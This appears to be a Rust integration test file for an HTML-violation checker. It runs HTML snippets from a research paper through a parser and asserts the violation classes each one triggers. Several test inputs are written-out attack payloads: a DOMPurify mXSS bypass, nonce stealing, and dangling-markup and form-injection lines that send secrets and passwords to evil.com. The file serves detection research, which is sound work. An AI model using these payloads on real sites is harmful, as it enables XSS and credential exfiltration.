//! Integration: every concrete HTML snippet printed in the paper, pushed
//! through the full stack (decoder → parser → checker battery), asserting
//! the violation kinds the paper associates with it.

use html_violations::prelude::*;

/// Local one-shot over a fresh [`Battery`].
fn check_page(page: &str) -> PageReport {
    Battery::full().run_str(page)
}

fn kinds(page: &str) -> Vec<&'static str> {
    let report = check_page(page);
    let mut ids: Vec<&'static str> = report.kinds().iter().map(|k| k.id()).collect();
    ids.sort_unstable();
    ids
}

#[test]
fn figure1_initial_payload() {
    // The DOMPurify bypass payload: the broken table (HF4) is what moves
    // the foreign elements around.
    let page = concat!(
        "<math><mtext><table><mglyph><style><!--</style>",
        "<img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">"
    );
    let report = check_page(page);
    assert!(report.has(ViolationKind::HF4), "{:?}", report.findings);
}

#[test]
fn figure2_nonce_stealing() {
    let page = "<script src=\"https://evil.com/x.js\" inj=\"\n\
        <p>The brown fox jumps over the lazy dog</p>\n\
        <script id=\"in-action\" nonce=\"the-rnd-nonce\">\n// do something...\n</script>";
    let report = check_page(page);
    assert!(report.has(ViolationKind::DE3_2));
    assert!(report.mitigations.script_in_attribute);
}

#[test]
fn figure3_textarea_injection() {
    let page = "<form action=\"https://evil.com\">\n\
        <input type=\"submit\"><textarea>\n<p>My little secret</p>\n...";
    let report = check_page(page);
    assert!(report.has(ViolationKind::DE1));
}

#[test]
fn figure4_content_before_body() {
    let page = "<!DOCTYPE html><html><head></head><p\n<body onload=\"checkSecurity()\">rest";
    let report = check_page(page);
    assert!(report.has(ViolationKind::HF2), "{:?}", report.findings);
    // The absorbed body means its onload never exists in the DOM.
    let doc = parse_document(page);
    let body = doc.dom.find_html("body").unwrap();
    assert!(doc.dom.element(body).unwrap().attr("onload").is_none());
}

#[test]
fn figure5_target_injection() {
    let page = "<a href=\"https://evil.com\">click me</a>\n\
        <base target='\n<p>secret</p></div id='a'></div>";
    let report = check_page(page);
    assert!(report.has(ViolationKind::DE3_3), "{:?}", report.findings);
}

#[test]
fn figure7_validator_breaker_is_fully_analyzed() {
    // The paper's Figure 7 breaks the W3C validator mid-document; our
    // checker battery must keep going and still report the table problem.
    let page = "<!DOCTYPE html>\n<html lang=\"en\">\n<head>\n<title>Test</title>\n\
        <meta charset=\"UTF-8\">\n</head>\n<body>\n\
        <math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">\n\
        </body>\n</html>";
    let report = check_page(page);
    assert!(report.has(ViolationKind::HF4), "{:?}", report.findings);
    // And the checkers processed content up to the end (EOF textarea-style
    // swallowing did not hide the closing tags).
    assert!(!report.has(ViolationKind::DE1));
}

#[test]
fn figure11_cozi_table() {
    let page = "<table>\n<tr><strong>Cozi Organizer</strong></tr>\n<tr>\n\
        <td>The #1 organizing app for ...</td>\n\
        <td> <img src=\"...\" align=\"right\"></td>\n</tr>\n</table>";
    assert!(kinds(page).contains(&"HF4"));
}

#[test]
fn figure12_google_404() {
    let page = "<!DOCTYPE html>\n<html lang=en>\n<meta charset=utf-8>\n\
        <meta name=viewport content=\"initial-scale=1, minimum-scale=1, width=device-width\">\n\
        <title>Error 404 (Not Found)!!1</title>\n<style>*{margin:0}</style>\n\
        <a href=//www.google.com/><span id=logo aria-label=Google></span></a>\n\
        <p><b>404.</b> <ins>That’s an error.</ins>\n\
        <p>The requested URL <code>/xxx</code> was not found on this server. <ins>That’s all we know.</ins>";
    let report = check_page(page);
    assert!(report.has(ViolationKind::HF1), "missing head tags: {:?}", report.findings);
}

#[test]
fn figure13_all_four_cases() {
    // Lines 1–4: copy-pasted nested forms.
    let forms = "<form method=\"get\" action=\"/search/\">\n\
        <form id=\"keywordsearch\" name=\"keywordsearch\" method=\"get\" action=\"/search\">\n\
        <input name=\"q\" type=\"text\" placeholder=\"Search jobs by keyword...\"/ >";
    let r = check_page(forms);
    assert!(r.has(ViolationKind::DE4), "{:?}", r.findings);
    // The `/ >` at the end is FB1's solidus-as-whitespace.
    assert!(r.has(ViolationKind::FB1));

    // Line 6: iframe missing its `>`.
    assert!(kinds(r#"<iframe src="https://foobar"</iframe>"#).contains(&"FB2"));

    // Line 8: quote inside a quoted value.
    assert!(kinds("<option value='Cote d'Ivoire'>").contains(&"FB2"));

    // Line 10: nested double quotes break the onClick.
    let onclick = r#"<a href="/x" target="_blank" onClick="img=new Image();img.src="/foo?cl=16796306";">x</a>"#;
    assert!(kinds(onclick).contains(&"FB1"));
}

#[test]
fn figure14_duplicate_alt() {
    let page = r#"<img src="product.jpg" alt="" class="thumb" alt="Product photo">"#;
    assert!(kinds(page).contains(&"DM3"));
}

#[test]
fn figure15_meta_redirect() {
    let page = "<html><head>Redirection</head>\n\
        <META HTTP-EQUIV=\"Refresh\" CONTENT=\"0; URL=HTTP://wds.iea.org/wds\">\n\
        <body>Page has moved <a href=\"http://wds.iea.org/wds\">here </a></body>\n</html>";
    let r = check_page(page);
    assert!(r.has(ViolationKind::DM1), "{:?}", r.findings);
    // "Redirection" as head text is also a broken head.
    assert!(r.has(ViolationKind::HF1));
}

#[test]
fn section_3_2_fb_examples() {
    assert!(kinds(r#"<img/src="x"/onerror="alert('XSS')">"#).contains(&"FB1"));
    assert!(kinds(r#"<img src="users/injection"onerror="alert('XSS')">"#).contains(&"FB2"));
}

#[test]
fn section_3_2_dm3_example() {
    let page = r#"<div id="injection" onclick="evil()" onclick="benign()">x</div>"#;
    let doc = parse_document(page);
    let div = doc.dom.find_html("div").unwrap();
    // "the following element only recognizes the evil onclick handler"
    assert_eq!(doc.dom.element(div).unwrap().attr("onclick"), Some("evil()"));
    assert!(kinds(page).contains(&"DM3"));
}

#[test]
fn section_3_2_de2_select_strips_tags() {
    // "<p id=private>secret</p> inside the select element is transformed
    // to secret"
    let page = "<select><option>a</option><p id=private>secret</p></select>";
    let doc = parse_document(page);
    let select = doc.dom.find_html("select").unwrap();
    assert!(doc.dom.descendants(select).all(|id| !doc.dom.is_html(id, "p")));
    assert!(doc.dom.text_content(select).contains("secret"));
}

#[test]
fn de3_1_dangling_markup_url() {
    let page = "<img src='http://evil.com/?content=\n<p>My secret</p>' alt=x>";
    assert!(kinds(page).contains(&"DE3_1"));
}

#[test]
fn de4_injected_form_controls_submission() {
    let page = "<form action=\"https://evil.com\"><form action=\"/login\" method=\"post\">\
        <input name=\"user\"><input name=\"pass\" type=\"password\"></form>";
    let doc = parse_document(page);
    let forms: Vec<_> = doc.dom.all_elements().filter(|&id| doc.dom.is_html(id, "form")).collect();
    assert_eq!(forms.len(), 1, "the nested form start tag is dropped");
    assert_eq!(doc.dom.element(forms[0]).unwrap().attr("action"), Some("https://evil.com"));
    // The password field now submits to evil.com.
    let pass = doc
        .dom
        .all_elements()
        .find(|&id| doc.dom.element(id).unwrap().attr("type") == Some("password"))
        .unwrap();
    assert!(doc.dom.is_inclusive_ancestor(forms[0], pass));
}
